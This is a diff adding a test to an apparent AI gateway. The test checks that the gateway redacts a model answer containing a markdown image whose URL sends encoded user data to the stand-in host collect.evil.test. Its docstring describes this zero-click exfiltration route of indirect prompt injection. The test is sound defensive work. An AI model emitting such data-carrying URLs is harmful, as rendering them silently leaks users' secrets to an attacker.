@@ -196,6 +196,25 @@ def test_answer_is_guarded_on_the_way_out(keys: KeyStore, app_key: str) -> None:
     assert response.headers["x-mantlet-output-action"] == "redact"
 
 
+def test_an_answer_cannot_make_the_client_fetch_a_url_carrying_data(
+    keys: KeyStore, app_key: str
+) -> None:
+    """The zero-click exfiltration of indirect prompt injection: the model
+    writes an image whose URL carries the user's data; rendering it sends it."""
+    image = "![loading](https://collect.evil.test/p.png?d=bXkgcGFzc3dvcmQgaXMgaHVudGVyMg)"
+    leaky = FixedProvider("leaky", f"Here is your summary. {image}")
+    with client_for(keys, {"leaky": leaky}, leaky=["leaky"]) as client:
+        response = client.post(
+            "/v1/chat/completions",
+            json={"model": "leaky", "messages": [{"role": "user", "content": "summarise"}]},
+            headers={"Authorization": f"Bearer {app_key}"},
+        )
+    assert response.status_code == 200
+    content = response.json()["choices"][0]["message"]["content"]
+    assert content == "Here is your summary. <URL_WITH_DATA_1>"
+    assert response.headers["x-mantlet-output-action"] == "redact"
+
+
 @pytest.mark.parametrize(
     ("content", "headers", "status", "code"),
     [
